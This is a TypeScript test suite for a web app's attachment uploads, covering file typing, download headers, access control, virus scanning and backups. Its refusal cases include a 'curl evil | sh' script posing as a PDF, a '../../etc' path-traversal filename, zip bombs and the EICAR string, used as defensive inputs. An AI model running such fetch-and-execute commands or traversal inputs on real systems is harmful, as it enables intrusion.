import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { type ClamdStandIn, EICAR, standInSocketPath, startClamdStandIn } from "../../src/attachments/testing/clamd-stand-in.ts";
import {
  DAMAGED_PDF,
  HTML_AS_PDF,
  JPEG,
  lyingZipBombDocx,
  PNG,
  pagesPdf,
  SVG,
  sampleDocx,
  samplePdf,
  sampleXlsx,
  utf8,
  zipBombDocx,
} from "../../src/attachments/testing/sample-files.ts";
import { attachmentFiles } from "../../src/db/attachment-files.ts";
import { createBackup, restoreBackup } from "../../src/db/backup.ts";
import { attachmentsOfDecision, attachmentsOfVersions, countAttachments } from "../../src/db/repositories/attachment-repository.ts";
import { attachments, auditLog, deliverables } from "../../src/db/schema.ts";
import { Attachment, AttachmentList } from "../../src/http/routes/attachments/attachments.schema.ts";
import { Deliverable } from "../../src/http/routes/deliverables/deliverables.schema.ts";
import { DecisionHistory } from "../../src/http/routes/milestones/milestones.schema.ts";
import { writeRequiredSections } from "../support/deliverable-fixtures.ts";
import { decisionBody } from "../support/initiative-fixtures.ts";
import { multipart } from "../support/multipart.ts";
import { createTestDatabase } from "../support/test-database.ts";
import { TEST_SECRETS } from "../support/test-secrets.ts";
import { type Api, type Browser, getJson, postJson, type TestWorld, useTestWorld } from "../support/test-world.ts";

const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
const ErrorJson = z.object({ code: z.string(), fields: z.array(z.object({ code: z.string() })).optional() });

/** Sends a file to an upload URL as an API client would: multipart, the file in the field `file`. */
const uploadVia = (world: TestWorld, api: Api, url: string, name: string, bytes: Uint8Array, type = "application/octet-stream") => {
  const body = multipart({}, { name, bytes, type });
  return world.app.inject({
    method: "POST",
    url,
    headers: { authorization: `Bearer ${api.token}`, "content-type": body.contentType },
    payload: body.payload,
  });
};

/** The upload form as a browser posts it: multipart with the form token, then the file. */
const uploadForm = (world: TestWorld, b: Browser, url: string, name: string, bytes: Uint8Array) => {
  const body = multipart({ _csrf: b.jar.get("ansluta_csrf") ?? "" }, { name, bytes });
  return world.app.inject({
    method: "POST",
    url,
    headers: { cookie: [...b.jar].map(([k, v]) => `${k}=${v}`).join("; "), "content-type": body.contentType },
    payload: body.payload,
  });
};

async function aDeliverable(world: TestWorld, pl: Api, name: string) {
  const initiative = await world.seedInitiative({ name });
  return postJson(pl, `/api/v1/initiatives/${initiative.id}/deliverables`, { deliverableTypeId: "idebeskrivning" }, Deliverable);
}

describe("attachments (database storage, no scanner)", () => {
  const world = useTestWorld();

  it("takes PDF, DOCX, XLSX, PNG and JPEG, typed by their bytes, with the right SHA-256, on the latest version", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Bilagor av alla slag");
    const files: [string, Uint8Array, string][] = [
      ["Anslutningsavtal signerat.pdf", await samplePdf(), "application/pdf"],
      ["Protokoll.docx", await sampleDocx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
      ["Volymer.xlsx", await sampleXlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
      // The name and the client's type say nothing: the bytes decide.
      ["skiss.bin", PNG, "image/png"],
      ["foto utan ändelse", JPEG, "image/jpeg"],
    ];
    for (const [name, bytes, type] of files) {
      const res = await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, name, bytes, "text/html");
      expect(res.statusCode, res.body).toBe(201);
      expect(Attachment.parse(res.json())).toMatchObject({
        filename: name,
        contentType: type,
        size: bytes.length,
        sha256: sha256(bytes),
        version: 1,
        scanned: false,
        uploadedBy: { id: world.users.plA },
      });
    }
    const list = await getJson(pl, `/api/v1/deliverables/${doc.id}/attachments`, AttachmentList);
    expect(list.attachments.map((a) => a.filename)).toEqual(files.map(([name]) => name));
  });

  it("serves an attachment only as a download: its real type, attachment with filename*, nosniff; the bytes as stored", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Nedladdning");
    const pdf = await samplePdf();
    const stored = Attachment.parse(
      (await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "Avtal för ärende.pdf", pdf)).json(),
    );
    const res = await pl.get(`/api/v1/attachments/${stored.id}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("application/pdf");
    expect(res.headers["content-disposition"]).toBe(
      `attachment; filename="Avtal for arende.pdf"; filename*=UTF-8''Avtal%20f%C3%B6r%20%C3%A4rende.pdf`,
    );
    expect(res.headers["x-content-type-options"]).toBe("nosniff");
    expect(sha256(res.rawPayload)).toBe(stored.sha256);
  });

  it("refuses every bad file with a clear code and stores nothing", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Dåliga filer");
    const url = `/api/v1/deliverables/${doc.id}/attachments`;
    const pdf = await samplePdf();
    const cases: [string, string, Uint8Array, number, string, string][] = [
      ["HTML named .pdf", "avtal.pdf", HTML_AS_PDF, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
      ["a script named .pdf", "avtal.pdf", utf8("#!/bin/sh\ncurl evil | sh\n"), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
      ["SVG", "bild.svg", SVG, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
      ["a zip bomb inside a DOCX", "protokoll.docx", await zipBombDocx(), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
      ["a PDF header on no PDF", "avtal.pdf", DAMAGED_PDF, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_unreadable"],
      ["a PDF of 2,001 pages", "lång.pdf", await pagesPdf(2001), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_too_many_pages"],
      ["an empty file", "tom.pdf", new Uint8Array(), 400, "VALIDATION_FAILED", "empty_file"],
      ["a name with ../", "../../etc/avtal.pdf", pdf, 400, "VALIDATION_FAILED", "filename_path"],
      ["a name with control characters", "avtal\u0007.pdf", pdf, 400, "VALIDATION_FAILED", "filename_control_characters"],
      ["a 500-character name", `${"a".repeat(496)}.pdf`, pdf, 400, "VALIDATION_FAILED", "filename_too_long"],
      ["26 MB (the default limit is 25 MB)", "stor.pdf", new Uint8Array(26 * 1024 * 1024), 413, "ATTACHMENT_TOO_LARGE", "file_too_large"],
    ];
    for (const [what, name, bytes, status, code, fieldCode] of cases) {
      const res = await uploadVia(world, pl, url, name, bytes);
      expect(res.statusCode, what).toBe(status);
      expect(ErrorJson.parse(res.json()), what).toMatchObject({ code, fields: [{ code: fieldCode }] });
    }
    expect(await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id))).toEqual([]);
    // Not multipart, or no file in `file`: refused too.
    expect((await pl.post(url, { file: "x" })).statusCode).toBe(415);
    const wrongField = multipart({}, { name: "avtal.pdf", bytes: pdf, field: "document" });
    const res = await world.app.inject({
      method: "POST",
      url,
      headers: { authorization: `Bearer ${pl.token}`, "content-type": wrongField.contentType },
      payload: wrongField.payload,
    });
    expect(ErrorJson.parse(res.json())).toMatchObject({ code: "VALIDATION_FAILED", fields: [{ code: "file_missing" }] });
  });

  // Heavy: 201 MB of zeros are packed here and unpacked again on the worker thread.
  it("refuses a zip bomb whose headers lie: unpacked on a worker thread, it passes the 200 MB limit", { timeout: 120_000 }, async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Lögnaktig zip-bomb");
    const res = await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "avtal.docx", await lyingZipBombDocx(201));
    expect(res.statusCode).toBe(415);
    expect(ErrorJson.parse(res.json())).toMatchObject({ code: "ATTACHMENT_TYPE_NOT_ALLOWED", fields: [{ code: "zip_bomb" }] });
    expect(await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id))).toEqual([]);
  });

  it("lets the team upload and every member read; another organisation gets 404, a läsare 403", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Behörighet");
    const stored = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "a.png", PNG)).json());
    const before = await countAttachments(world.db);
    const outsider = await world.loginAs("plB");
    expect((await outsider.get(`/api/v1/attachments/${stored.id}`)).statusCode).toBe(404);
    expect((await outsider.get(`/api/v1/deliverables/${doc.id}/attachments`)).statusCode).toBe(404);
    expect((await uploadVia(world, outsider, `/api/v1/deliverables/${doc.id}/attachments`, "b.png", PNG)).statusCode).toBe(404);
    const reader = await world.loginAs("readerA");
    expect((await reader.get(`/api/v1/attachments/${stored.id}`)).statusCode).toBe(200);
    expect((await uploadVia(world, reader, `/api/v1/deliverables/${doc.id}/attachments`, "b.png", PNG)).statusCode).toBe(403);
    expect(await countAttachments(world.db)).toBe(before);
    const page = await (await world.browserAs("plB")).get(`/attachments/${stored.id}`);
    expect(page.statusCode).toBe(404);
  });

  it("audits every upload with the file's name and hash, never its bytes", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Granskningslogg");
    const stored = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "a.jpg", JPEG)).json());
    const [entry] = await world.db.select().from(auditLog).where(eq(auditLog.entityId, stored.id));
    expect(entry).toMatchObject({ action: "attachment.add", entityType: "attachment", actorUserId: world.users.plA });
    expect(entry?.after).toMatchObject({ filename: "a.jpg", sha256: sha256(JPEG), size: JPEG.length });
    expect(JSON.stringify(entry?.after)).not.toContain("bytes");
  });

  it("attaches files to a milestone decision for the team and the milestone's deciders", async () => {
    const initiative = await world.seedInitiative({ name: "Beslutsbilagor", phase: 2 });
    const pl = await world.loginAs("plA");
    const [decision] = (await getJson(pl, `/api/v1/initiatives/${initiative.id}/milestones/I/decisions`, DecisionHistory)).decisions;
    if (!decision) throw new Error("milestone I has no decision");
    const url = `/api/v1/decisions/${decision.id}/attachments`;
    const va = await world.loginAs("vaA");
    const pdf = await samplePdf();
    const stored = Attachment.parse((await uploadVia(world, va, url, "Anslutningsavtal.pdf", pdf)).json());
    expect(stored).toMatchObject({ decisionId: decision.id, deliverableId: null, version: null, sha256: sha256(pdf) });
    expect((await getJson(pl, url, AttachmentList)).attachments.map((a) => a.id)).toEqual([stored.id]);
    expect((await uploadVia(world, await world.loginAs("readerA"), url, "x.pdf", pdf)).statusCode).toBe(403);
    expect((await uploadVia(world, await world.loginAs("plB"), url, "x.pdf", pdf)).statusCode).toBe(404);
    expect((await (await world.loginAs("plB")).get(url)).statusCode).toBe(404);

    // The page: a list, a form that uploads without JavaScript, and a link from the milestone page.
    const b = await world.browserAs("plA");
    const milestone = await b.get(`/initiatives/${initiative.id}/milestones/I`);
    expect(milestone.body).toContain(`href="/decisions/${decision.id}/attachments"`);
    const uploaded = await uploadForm(world, b, `/decisions/${decision.id}/attachments`, "Protokoll.docx", await sampleDocx());
    expect(uploaded.statusCode).toBe(303);
    const page = await b.get(`/decisions/${decision.id}/attachments`);
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain("Anslutningsavtal.pdf");
    expect(page.body).toContain("Protokoll.docx");
    expect(page.body).toContain("Bilagor virussöks inte i den här installationen.");
    const refused = await uploadForm(world, b, `/decisions/${decision.id}/attachments`, "bild.svg", SVG);
    expect(refused.statusCode).toBe(415);
    expect(refused.body).toContain("Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil.");
  });

  it("refuses a file for a fastställd version (409, nothing stored), while a decision still takes files", async () => {
    const initiative = await world.seedInitiative({ name: "Fastställd bilaga", ready: true });
    const [doc] = await world.db.select().from(deliverables).where(eq(deliverables.initiativeId, initiative.id));
    if (!doc) throw new Error("the prepared initiative has no document");
    const pl = await world.loginAs("plA");
    const before = await countAttachments(world.db);
    const res = await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "sent.pdf", await samplePdf());
    expect(res.statusCode).toBe(409);
    expect(ErrorJson.parse(res.json())).toMatchObject({ code: "ATTACHMENT_VERSION_FROZEN", fields: [{ code: "version_frozen" }] });
    const b = await world.browserAs("plA");
    const page = await b.get(`/deliverables/${doc.id}`);
    expect(page.body).not.toMatch(/action="\/deliverables\/[^"]+\/attachments"/);
    expect(page.body).toContain("Den senaste versionen är fastställd");
    const form = await uploadForm(world, b, `/deliverables/${doc.id}/attachments`, "sent.pdf", await samplePdf());
    expect(form.statusCode).toBe(409);
    expect(form.body).toContain("Versionen är fastställd och tar inte emot fler bilagor.");
    expect(await countAttachments(world.db)).toBe(before);

    const va = await world.loginAs("vaA");
    expect((await va.post(`/api/v1/initiatives/${initiative.id}/milestones/I/decision`, decisionBody("I"))).statusCode).toBe(201);
    const [decision] = (await getJson(pl, `/api/v1/initiatives/${initiative.id}/milestones/I/decisions`, DecisionHistory)).decisions;
    const signed = await uploadVia(world, va, `/api/v1/decisions/${decision?.id}/attachments`, "Protokoll.pdf", await samplePdf());
    expect(signed.statusCode).toBe(201);
  });

  it("under uploads and fastställa at once, stores exactly the uploads it answered 201", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Samtidigt fastställd");
    await writeRequiredSections(pl, doc);
    const va = await world.loginAs("vaA");
    const url = `/api/v1/deliverables/${doc.id}/attachments`;
    const [approved, ...uploads] = await Promise.all([
      va.post(`/api/v1/deliverables/${doc.id}/status`, { status: "faststalld" }),
      ...["a.png", "b.png", "c.png"].map((name) => uploadVia(world, pl, url, name, PNG)),
    ]);
    expect(approved?.statusCode).toBe(200);
    for (const res of uploads) expect([201, 409]).toContain(res.statusCode);
    const stored = await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id));
    expect(stored.length).toBe(uploads.filter((r) => r.statusCode === 201).length);
    expect((await uploadVia(world, pl, url, "d.png", PNG)).statusCode).toBe(409);
  });

  it("hands the decision package each version's and each decision's attachments with their bytes, in the order asked", async () => {
    const pl = await world.loginAs("plA");
    const first = await aDeliverable(world, pl, "Paket ett");
    const second = await aDeliverable(world, pl, "Paket två");
    const pdf = await samplePdf();
    const a = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${first.id}/attachments`, "a.pdf", pdf)).json());
    const b = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${second.id}/attachments`, "b.png", PNG)).json());
    const got = await attachmentsOfVersions(world.db, [
      { deliverableId: second.id, version: 1 },
      { deliverableId: first.id, version: 1 },
      { deliverableId: first.id, version: 2 },
    ]);
    expect(got.map((x) => [x.id, x.filename, sha256(x.bytes)])).toEqual([
      [b.id, "b.png", sha256(PNG)],
      [a.id, "a.pdf", sha256(pdf)],
    ]);
    expect(await attachmentsOfVersions(world.db, [])).toEqual([]);
    const initiative = await world.seedInitiative({ name: "Paketets beslut", phase: 2 });
    const [decision] = (await getJson(pl, `/api/v1/initiatives/${initiative.id}/milestones/I/decisions`, DecisionHistory)).decisions;
    if (!decision) throw new Error("milestone I has no decision");
    await uploadVia(world, pl, `/api/v1/decisions/${decision.id}/attachments`, "protokoll.jpg", JPEG);
    expect((await attachmentsOfDecision(world.db, decision.id)).map((x) => [x.filename, x.contentType, sha256(x.bytes)])).toEqual([
      ["protokoll.jpg", "image/jpeg", sha256(JPEG)],
    ]);
  });

  it("shows Bilagor on the deliverable page: the list per version, the upload form, Swedish refusals", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Bilagor på sidan");
    const b = await world.browserAs("plA");
    const empty = await b.get(`/deliverables/${doc.id}`);
    expect(empty.body).toContain('id="attachments-heading"');
    expect(empty.body).toContain("Bilagor virussöks inte i den här installationen.");
    expect(empty.body).toMatch(/<form[^>]*action="\/deliverables\/[^"]+\/attachments"[^>]*enctype="multipart\/form-data"/i);
    expect(empty.body).toMatch(/<label[^>]*for="f-file"/);

    const done = await uploadForm(world, b, `/deliverables/${doc.id}/attachments`, "Anslutningsavtal.pdf", await samplePdf());
    expect(done.statusCode).toBe(303);
    expect(done.headers.location).toBe(`/deliverables/${doc.id}#bilagor`);
    const page = await b.get(`/deliverables/${doc.id}`);
    expect(page.body).toContain("Bilagor till version 1 (senaste)");
    expect(page.body).toContain("Anslutningsavtal.pdf");
    expect(page.body).toContain("pl-a");

    for (const [name, bytes, status, text] of [
      ["avtal.pdf", HTML_AS_PDF, 415, "Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil."],
      ["trasig.pdf", DAMAGED_PDF, 415, "PDF-filen går inte att öppna (den kan vara skadad)."],
      ["tom.pdf", new Uint8Array(), 400, "Filen är tom."],
      ["../avtal.pdf", PNG, 400, "Filnamnet får inte innehålla / eller \\."],
      ["stor.pdf", new Uint8Array(25 * 1024 * 1024 + 1), 413, "Filen är större än 25 MB."],
    ] as const) {
      const res = await uploadForm(world, b, `/deliverables/${doc.id}/attachments`, name, bytes);
      expect(res.statusCode, name).toBe(status);
      expect(res.body, name).toContain(text);
    }
    const reader = await world.browserAs("readerA");
    const read = await reader.get(`/deliverables/${doc.id}`);
    expect(read.body).toContain("Anslutningsavtal.pdf");
    expect(read.body).not.toMatch(/action="\/deliverables\/[^"]+\/attachments"/);
    const id = /href="\/attachments\/([0-9a-f-]{36})"/.exec(read.body)?.[1];
    const download = await reader.get(`/attachments/${id}`);
    expect(download.statusCode).toBe(200);
    expect(download.headers["content-disposition"]).toMatch(/^attachment; /);
    expect(download.headers["x-content-type-options"]).toBe("nosniff");
  });
});

describe("uploads on the pages: refused before the file is read", () => {
  const world = useTestWorld();

  /**
   * A form upload whose file never finishes arriving: answered only if the server answers without
   * waiting for the body. `finish` sends the rest, so the request can end.
   */
  const slowUpload = (url: string, headers: Record<string, string>, csrf = "") => {
    const body = multipart({ _csrf: csrf }, { name: "avtal.png", bytes: PNG });
    const split = body.payload.length - 200;
    const stream = new PassThrough();
    stream.write(body.payload.subarray(0, split));
    const response = world.app.inject({ method: "POST", url, headers: { ...headers, "content-type": body.contentType }, payload: stream });
    return { response, finish: () => stream.end(body.payload.subarray(split)) };
  };
  const within = <T>(promise: Promise<T>, ms = 3000) =>
    Promise.race([promise, new Promise<"still reading">((resolve) => setTimeout(() => resolve("still reading"), ms))]);
  const cookieOf = (b: Browser) => [...b.jar].map(([k, v]) => `${k}=${v}`).join("; ");

  it("answers a läsare 403, an outsider 404 and nobody signed in a redirect to log in, without waiting for the file", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Tidig vägran");
    const url = `/deliverables/${doc.id}/attachments`;
    for (const [who, headers, status] of [
      ["readerA", { cookie: cookieOf(await world.browserAs("readerA")) }, 403],
      ["plB", { cookie: cookieOf(await world.browserAs("plB")) }, 404],
      ["nobody", {}, 303],
    ] as const) {
      const upload = slowUpload(url, headers);
      const answered = await within(upload.response);
      upload.finish();
      expect(answered === "still reading" ? answered : answered.statusCode, who).toBe(status);
    }
    expect(await countAttachments(world.db)).toBe(0);
  });

  it("takes at most 4 uploads at once in a process; the fifth is answered 503 with Retry-After at once", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Många samtidigt");
    const b = await world.browserAs("plA");
    const url = `/deliverables/${doc.id}/attachments`;
    const headers = { cookie: cookieOf(b) };
    const csrf = b.jar.get("ansluta_csrf") ?? "";
    const running = Array.from({ length: 4 }, () => slowUpload(url, headers, csrf));
    await new Promise((resolve) => setTimeout(resolve, 200));
    const fifth = slowUpload(url, headers, csrf);
    const busy = await within(fifth.response);
    fifth.finish();
    expect(busy === "still reading" ? busy : busy.statusCode).toBe(503);
    if (busy !== "still reading") {
      expect(busy.headers["retry-after"]).toBe("5");
      expect(busy.body).toContain("Många laddar upp just nu");
    }
    for (const upload of running) upload.finish();
    expect((await Promise.all(running.map((u) => u.response))).map((r) => r.statusCode)).toEqual([303, 303, 303, 303]);
    // Done: the next one is taken.
    const next = slowUpload(url, headers, csrf);
    next.finish();
    expect((await next.response).statusCode).toBe(303);
  });
});

describe("attachments with ClamAV and a directory", () => {
  const socketPath = standInSocketPath();
  let clamd: ClamdStandIn | null = null;
  let dir = "";
  beforeAll(async () => {
    clamd = await startClamdStandIn(socketPath);
  });
  afterAll(async () => {
    await clamd?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });
  dir = join(tmpdir(), `ansluta-attachments-${process.pid}-${Date.now()}`);
  const world = useTestWorld({ env: { CLAMD_SOCKET: socketPath, ATTACHMENT_DIR: dir, ATTACHMENT_MAX_BYTES: "100000" } });

  it("scans every upload: a clean one is stored as scanned, EICAR is refused, and nothing is stored while the scanner is down", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Virussökning");
    const url = `/api/v1/deliverables/${doc.id}/attachments`;
    const clean = await uploadVia(world, pl, url, "ren.png", PNG);
    expect(clean.statusCode).toBe(201);
    expect(Attachment.parse(clean.json()).scanned).toBe(true);
    expect(clamd?.scans()).toBe(1);

    const infected = await uploadVia(world, pl, url, "eicar.pdf", utf8(`%PDF-1.4\n${EICAR}\n%%EOF\n`));
    expect(infected.statusCode).toBe(422);
    expect(ErrorJson.parse(infected.json()).code).toBe("ATTACHMENT_INFECTED");

    const b = await world.browserAs("plA");
    const page = await b.get(`/deliverables/${doc.id}`);
    expect(page.body).toContain("Varje bilaga virussöks innan den sparas.");

    await clamd?.close();
    const down = await uploadVia(world, pl, url, "ren.png", PNG);
    expect(down.statusCode).toBe(503);
    expect(ErrorJson.parse(down.json()).code).toBe("VIRUS_SCAN_UNAVAILABLE");
    // Where the scanner listens is the installation's business: it is logged, not answered.
    expect(down.body).not.toContain(socketPath);
    expect(down.body).not.toMatch(/ENOENT|ECONNREFUSED|clamd/);
    expect(down.json()).toMatchObject({ message: "the virus scanner did not answer, so nothing was stored; try again later" });
    expect((await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id))).length).toBe(1);
    clamd = await startClamdStandIn(socketPath);
  });

  it("keeps bytes in ATTACHMENT_DIR under their SHA-256, honours a configured size limit, and backs the files up", async () => {
    const pl = await world.loginAs("plA");
    const doc = await aDeliverable(world, pl, "Katalog och säkerhetskopia");
    const url = `/api/v1/deliverables/${doc.id}/attachments`;
    const pdf = await samplePdf();
    const stored = Attachment.parse((await uploadVia(world, pl, url, "avtal.pdf", pdf)).json());
    const [row] = await world.db.select().from(attachments).where(eq(attachments.id, stored.id));
    expect(row?.bytes).toBeNull();
    expect(existsSync(join(dir, stored.sha256.slice(0, 2), stored.sha256))).toBe(true);
    expect(sha256((await pl.get(`/api/v1/attachments/${stored.id}`)).rawPayload)).toBe(stored.sha256);

    const tooLarge = await uploadVia(world, pl, url, "stor.pdf", new Uint8Array(100_001));
    expect(tooLarge.statusCode).toBe(413);
    expect(ErrorJson.parse(tooLarge.json()).code).toBe("ATTACHMENT_TOO_LARGE");

    // A backup holds the file's bytes; restored into a database without a directory, the bytes live in the table.
    const backup = await createBackup(world.db, new Date(), { attachmentFiles: attachmentFiles(dir) });
    const backedUp = (backup.tables.attachments as { id: string; bytes: string }[]).find((a) => a.id === stored.id);
    expect(backedUp?.bytes).toBe(`\\x${Buffer.from(pdf).toString("hex")}`);
    await expect(createBackup(world.db, new Date())).rejects.toThrow(/ATTACHMENT_DIR/);

    const target = await createTestDatabase();
    try {
      await restoreBackup(target.db, backup, { secrets: TEST_SECRETS });
      const [restored] = await target.db.select().from(attachments).where(eq(attachments.id, stored.id));
      expect(restored?.bytes && sha256(restored.bytes)).toBe(stored.sha256);
      // And into another directory: the file is written there, the row keeps no bytes.
      const otherDir = await mkdtemp(join(tmpdir(), "ansluta-restore-"));
      try {
        await restoreBackup(target.db, backup, { secrets: TEST_SECRETS, attachmentFiles: attachmentFiles(otherDir) });
        const [again] = await target.db.select().from(attachments).where(eq(attachments.id, stored.id));
        expect(again?.bytes).toBeNull();
        expect(sha256(await attachmentFiles(otherDir).get(stored.sha256))).toBe(stored.sha256);
      } finally {
        await rm(otherDir, { recursive: true, force: true });
      }
    } finally {
      await target.close();
    }
  });
});
